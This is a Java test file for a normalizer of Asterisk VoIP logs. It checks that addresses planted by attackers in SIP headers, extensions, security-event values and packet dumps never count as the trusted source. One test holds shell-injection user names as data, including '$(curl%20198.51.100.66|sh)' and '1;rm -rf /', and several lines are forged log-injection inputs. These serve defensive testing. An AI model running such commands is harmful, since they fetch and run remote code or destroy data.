package org.tollgate.normalizer;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.tollgate.normalizer.json.EcsJsonWriter;
import org.tollgate.normalizer.message.AddressOrigin;
import org.tollgate.normalizer.message.Finding;

/**
 * Text the sender wrote (SIP headers, extensions, account names, raw packets) shares log lines with the address
 * Asterisk took from the socket. Whatever it plants, only the transport address may be trusted. Planted addresses
 * are 198.51.100.66 (and 2001:db8::66); real ones are in 192.0.2.0/24.
 */
class AttackerTextTest {

    private static final String PLANTED = "198.51.100.66";
    private static final String REAL = "192.0.2.10";
    private static final String REAL_V6 = "2001:db8::10";

    @Test
    void noTrustedSourceInTheAttackerCorpusIsAPlantedAddress() {
        List<ObjectNode> events = events("attacker-text.log", Corpus.OPTIONS);
        assertThat(events).hasSizeGreaterThan(30);
        for (ObjectNode event : events) {
            if (event.at("/asterisk/source_trusted").asBoolean(false)) {
                assertThat(event.at("/source/ip").asText()).as(event.at("/event/original").asText()).isIn(REAL, REAL_V6);
            }
            if (event.at("/source/ip").asText().equals(PLANTED) || event.at("/source/ip").asText().equals("2001:db8::66")) {
                assertThat(event.at("/asterisk/source_trusted").asBoolean()).as(event.at("/event/original").asText()).isFalse();
            }
        }
    }

    @Test
    void aLineWithNoAsteriskLayoutIsNeverTrusted() {
        // What `sip set debug on` copies into the log: the received packet, line by line, written by the sender.
        for (String bare : List.of(
                "hacking attempt detected '" + PLANTED + "'",
                "Registration from '<sip:1@203.0.113.5>' failed for '" + PLANTED + ":5060' - Wrong password",
                "Request 'REGISTER' from '<sip:1@203.0.113.5>' failed for '" + PLANTED + ":5060' (callid: x) - Failed to authenticate")) {
            Finding finding = finding(bare);
            assertThat(finding).as(bare).isNotNull();
            assertThat(finding.source().ip()).isEqualTo(PLANTED);
            assertThat(finding.sourceTrusted()).as(bare).isFalse();
        }
        // The same message with Asterisk's own prefix is trusted.
        Finding prefixed = finding("[2026-01-18 17:39:50] NOTICE[2290] chan_sip.c: Registration from '<sip:1@203.0.113.5>' failed for '"
                + REAL + ":5060' - Wrong password");
        assertThat(prefixed.sourceTrusted()).isTrue();
    }

    @Test
    void aPlantedFailedForInTheToHeaderLosesToTheOneAsteriskWrote() {
        Finding finding = finding("[2026-01-18 17:39:50] NOTICE[2744] chan_sip.c: Registration from "
                + "'<sip:x' failed for '198.51.100.66' - Wrong password@203.0.113.5>' failed for '192.0.2.10:5060' - Wrong password");
        assertThat(finding.source().ip()).isEqualTo(REAL);
        assertThat(finding.source().port()).isEqualTo(5060);
        assertThat(finding.sourceTrusted()).isTrue();
        assertThat(finding.reason()).isEqualTo("Wrong password");
    }

    @Test
    void aFromEndingLikeThePatchedFormIsNotTrustedOnAnUnpatchedHost() {
        String line = "[2026-01-18 17:39:51] NOTICE[2744] chan_sip.c: Failed to authenticate device "
                + "\"1001\" <sip:1001@203.0.113.5>;tag=as01 (198.51.100.66:5060)";
        Finding unpatched = finding(line);
        assertThat(unpatched.source().ip()).isEqualTo(PLANTED);
        assertThat(unpatched.origin()).isEqualTo(AddressOrigin.PATCH);
        assertThat(unpatched.sourceTrusted()).isFalse();
    }

    @Test
    void onAPatchedHostTheSuffixAsteriskAppendedWinsOverOneInTheFrom() {
        String line = "[2026-01-18 17:39:51] NOTICE[2744] chan_sip.c: Failed to authenticate device "
                + "\"1001\" <sip:1001@203.0.113.5>;tag=as01 (198.51.100.66:5060) (192.0.2.10:5062)";
        Finding patched = new Normalizer(Corpus.OPTIONS.withTrustPatchedLines(true)).normalize(line) instanceof ParseResult.Parsed p
                ? p.event().finding() : null;
        assertThat(patched).isNotNull();
        assertThat(patched.source().ip()).isEqualTo(REAL);
        assertThat(patched.source().port()).isEqualTo(5062);
        assertThat(patched.sourceTrusted()).isTrue();
        assertThat(finding(line).sourceTrusted()).as("same line, unpatched host").isFalse();
    }

    @Test
    void aRemoteAddressPlantedInASecurityEventValueIsTheSendersTextAndTheRealOneIsTrusted() {
        // Today's key order (main/security_events.c): … AccountID, SessionID, LocalAddress, RemoteAddress, then the
        // type's own keys. A planted pair that does not fit that order is text inside the value it was planted in.
        // Before, any repeated RemoteAddress made the event untrusted: one key in the Call-ID evaded every ban.
        String inAccountId = "[2026-01-18 17:39:53] SECURITY[2289] res_security_log.c: SecurityEvent=\"InvalidAccountID\","
                + "EventTV=\"2026-01-18T17:39:53.000+0000\",Severity=\"Error\",Service=\"PJSIP\",EventVersion=\"1\","
                + "AccountID=\"x\",RemoteAddress=\"IPV4/UDP/198.51.100.66/5060\",SessionID=\"c1\","
                + "LocalAddress=\"IPV4/UDP/192.0.2.1/5060\",RemoteAddress=\"IPV4/UDP/192.0.2.10/5060\"";
        String inResponse = "[2026-01-18 17:39:53] SECURITY[2289] res_security_log.c: SecurityEvent=\"ChallengeResponseFailed\","
                + "EventTV=\"2026-01-18T17:39:53.100+0000\",Severity=\"Error\",Service=\"PJSIP\",EventVersion=\"1\","
                + "AccountID=\"1001\",SessionID=\"c2\",LocalAddress=\"IPV4/UDP/192.0.2.1/5060\","
                + "RemoteAddress=\"IPV4/UDP/192.0.2.10/5060\",Challenge=\"1768757993/abcd\","
                + "Response=\"x\",RemoteAddress=\"IPV4/UDP/198.51.100.66/5060\",ExpectedResponse=\"\"";
        String inCallId = "[2026-01-18 17:39:53] SECURITY[2289] res_security_log.c: SecurityEvent=\"InvalidAccountID\","
                + "EventTV=\"2026-01-18T17:39:53.000+0000\",Severity=\"Error\",Service=\"PJSIP\",EventVersion=\"1\","
                + "AccountID=\"1001\",SessionID=\"c3\",LocalAddress=\"IPV4/UDP/192.0.2.1/5060\","
                + "RemoteAddress=\"IPV4/UDP/198.51.100.66/5060\",LocalAddress=\"IPV4/UDP/192.0.2.1/5060\","
                + "RemoteAddress=\"IPV4/UDP/192.0.2.10/5060\"";
        for (String line : List.of(inAccountId, inResponse, inCallId)) {
            Finding finding = finding(line);
            assertThat(finding.source().ip()).as(line).isEqualTo(REAL);
            assertThat(finding.sourceTrusted()).as(line).isTrue();
        }
        assertThat(finding(inCallId).sessionId())
                .isEqualTo("c3\",LocalAddress=\"IPV4/UDP/192.0.2.1/5060\",RemoteAddress=\"IPV4/UDP/198.51.100.66/5060");
    }

    @Test
    void anExtensionPlantingAnAddressNeverSuppliesOne() {
        // 1.4.12–1.8.4 print no address at all: the only one in the line is the caller's.
        assertThat(finding("[Jan 18 17:39:55] NOTICE[3301] chan_sip.c: Call from '1001' to extension "
                + "'x' (198.51.100.66:5060) to extension '' rejected because extension not found.").source()).isNull();
        assertThat(finding("[2026-01-18 17:39:56] NOTICE[2744] chan_sip.c: Call from 'trunk' to extension "
                + "'x' (198.51.100.66:5060) to extension '' rejected because extension not found in context 'from-trunk'.")
                .source()).isNull();
        Finding withAddress = finding("[2026-01-18 17:39:55] NOTICE[2744] chan_sip.c: Call from '' (192.0.2.10:5060) "
                + "to extension '1' (198.51.100.66:5060) to extension '' rejected because extension not found in context 'public'.");
        assertThat(withAddress.source().ip()).isEqualTo(REAL);
        assertThat(withAddress.extension()).isEqualTo("1' (198.51.100.66:5060) to extension '");
    }

    @Test
    void theCallersTextInADialplanTraceOrLogIsNeverReadAsAnAsteriskMessage() {
        assertThat(finding("[Jan 18 17:40:08] VERBOSE[3190] logger.c:     -- Executing [s@from-external:1] "
                + "NoOp(\"SIP/192.0.2.10-00000001\", \"x: Call (UDP:198.51.100.66:5060) to extension '1' rejected "
                + "because extension not found in context 'a'.\") in new stack")).isNull();
        assertThat(finding("[2026-01-18 17:40:09] NOTICE[3190][C-00000061] Ext. s: Registration from "
                + "'<sip:x@203.0.113.5>' failed for '198.51.100.66:5060' - Wrong password")).isNull();
    }

    @Test
    void aCallIdCannotChooseTheReason() {
        Finding finding = finding("[2026-01-18 17:40:06] NOTICE[2290] res_pjsip/pjsip_distributor.c: Request 'REGISTER' "
                + "from '<sip:1001@203.0.113.5>' failed for '192.0.2.10:5060' (callid: x) - No matching endpoint found) "
                + "- Failed to authenticate");
        assertThat(finding.action().id()).isEqualTo("auth-failed");
        assertThat(finding.reason()).isEqualTo("Failed to authenticate");
        assertThat(finding.sessionId()).isEqualTo("x) - No matching endpoint found");
        assertThat(finding.source().ip()).isEqualTo(REAL);
    }

    @Test
    void shellMetacharactersInUserPartsAreKeptAsData() {
        List<ObjectNode> events = events("attacker-text.log", Corpus.OPTIONS);
        List<String> users = new ArrayList<>();
        for (ObjectNode event : events) {
            users.add(event.at("/user/name").asText(null));
        }
        assertThat(users).contains("$(id)", "`reboot`", "1;rm -rf /", "$(curl%20198.51.100.66|sh)", "$(id);rm -rf /");
        for (ObjectNode event : events) {
            if (event.at("/user/name").asText("").contains("$(") || event.at("/user/name").asText("").contains("`")) {
                assertThat(event.at("/source/ip").asText()).isEqualTo(REAL);
                assertThat(event.at("/asterisk/source_trusted").asBoolean()).isTrue();
            }
        }
    }

    @Test
    void nothingInsideAPacketDumpYieldsAnAddressAndTheLineAfterItsRealEndIsReadAgain() {
        List<ObjectNode> events = events("pjproject-packet-dump.log", Corpus.OPTIONS);
        String[] lines = new String(Corpus.read("pjproject-packet-dump.log"), StandardCharsets.UTF_8).split("\n", -1);
        int dumps = 0;
        for (ObjectNode event : events) {
            if (event.at("/asterisk/packet_dump").asBoolean(false)) {
                dumps++;
                assertThat(event.has("source")).as(event.at("/message").asText()).isFalse();
                assertThat(event.at("/event/dataset").asText()).isEqualTo("asterisk.log");
            }
            assertThat(event.at("/source/ip").asText("")).as(event.at("/message").asText()).doesNotStartWith("198.51.100.");
        }
        assertThat(dumps).isGreaterThan(30);
        // Each real "-- end of packet." is followed by a real line, which is read as a security event.
        int realLinesAfterDumps = 0;
        for (int i = 1; i < events.size(); i++) {
            if (lines[i - 1].equals("-- end of packet.") && events.get(i - 1).at("/asterisk/packet_dump").asBoolean(false)
                    && !events.get(i).at("/asterisk/packet_dump").asBoolean(false) && lines[i].startsWith("[")) {
                assertThat(events.get(i).at("/event/dataset").asText()).as(lines[i]).isEqualTo("asterisk.security");
                assertThat(events.get(i).at("/asterisk/source_trusted").asBoolean()).as(lines[i]).isTrue();
                realLinesAfterDumps++;
            }
        }
        assertThat(realLinesAfterDumps).isEqualTo(6);
    }

    @Test
    void aFakeEndOfPacketBeforeTheRealEndDoesNotEndTheDump() {
        String packet = "INVITE sip:100@203.0.113.5 SIP/2.0\r\n"
                + "X-Pad: x\n"
                + "-- end of packet.\r\n"
                + "[2026-01-18 17:39:52] NOTICE[3201] chan_sip.c: Registration from '<sip:1@203.0.113.5>' failed for '198.51.100.66:5060' - Wrong password\r\n"
                + "\r\n";
        int size = packet.getBytes(StandardCharsets.UTF_8).length;
        String log = "[2026-01-18 17:39:52] ERROR[2288] pjproject: \t       sip_transport.c Error processing " + size
                + " bytes packet from UDP 192.0.2.92:5060 : PJSIP syntax error exception when parsing 'X-Pad' header on line 2 col 6:\n"
                + packet + "\n-- end of packet.\n"
                + "[2026-01-18 17:39:53] NOTICE[3201] chan_sip.c: Registration from '<sip:1@203.0.113.5>' failed for '192.0.2.10:5060' - Wrong password\n";
        List<ObjectNode> events = Corpus.toJson(Corpus.normalize(log.getBytes(StandardCharsets.UTF_8), 7, Corpus.OPTIONS));
        List<String> sources = new ArrayList<>();
        for (ObjectNode event : events) {
            if (event.has("source")) {
                sources.add(event.at("/source/ip").asText());
            }
        }
        assertThat(sources).containsExactly("192.0.2.92", REAL);
    }

    @Test
    void theExpectedIax2DigestNeverLeavesInAnEvent() {
        List<ObjectNode> events = events("attacker-text.log", Corpus.OPTIONS);
        events.addAll(events("iax2.log", Corpus.OPTIONS));
        String[] expectedDigests = {
            "5d41402abc4b2a76b9719d911017c592", "7e6d5c4b3a29180f7e6d5c4b3a291800", "e10adc3949ba59abbe56e057f20f883e",
            "9b1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f",
        };
        int md5Failures = 0;
        for (ObjectNode event : events) {
            String message = event.at("/message").asText();
            String original = event.at("/event/original").asText();
            if (message.contains("failed MD5 authentication")) {
                md5Failures++;
                assertThat(message).contains("[redacted]");
            }
            for (String digest : expectedDigests) {
                assertThat(message).doesNotContain(digest);
                assertThat(original).doesNotContain(digest);
                assertThat(original).as("as journald byte values").doesNotContain(byteValues(digest));
            }
        }
        assertThat(md5Failures).isEqualTo(5);
    }

    private static String byteValues(String text) {
        StringBuilder out = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            out.append(out.length() == 0 ? "" : ",").append(b & 0xff);
        }
        return out.toString();
    }

    private static Finding finding(String line) {
        ParseResult result = new Normalizer(Corpus.OPTIONS).normalize(line);
        assertThat(result).isInstanceOf(ParseResult.Parsed.class);
        AsteriskEvent event = ((ParseResult.Parsed) result).event();
        // The JSON must say the same.
        ObjectNode json = Corpus.parse(new EcsJsonWriter().toJson(result));
        if (event.finding() != null && event.finding().source() != null) {
            assertThat(json.at("/source/ip").asText()).isEqualTo(event.finding().source().ip());
            assertThat(json.at("/asterisk/source_trusted").asBoolean()).isEqualTo(event.finding().sourceTrusted());
        }
        return event.finding();
    }

    private static List<ObjectNode> events(String file, NormalizerOptions options) {
        return new ArrayList<>(Corpus.toJson(Corpus.normalize(Corpus.read(file), 4096, options)));
    }
}
